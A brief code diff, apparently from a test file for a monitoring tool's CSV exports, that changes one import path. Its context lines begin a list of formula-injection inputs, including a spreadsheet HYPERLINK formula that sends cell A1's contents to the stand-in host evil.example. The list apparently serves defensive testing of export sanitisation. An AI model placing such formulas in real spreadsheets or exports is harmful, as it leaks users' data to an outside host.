@@ -22,7 +22,7 @@ from monitor.report import build_report
 from monitor.report.exports import calls_csv, export_calls
 from monitor.schema import CALLS_WITH_POSITION_SCHEMA
 from monitor.simulate.truth import read_truth_csv
-from monitor.store.parquet import atomic_write_parquet
+from monitor.store.table import atomic_write_parquet
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
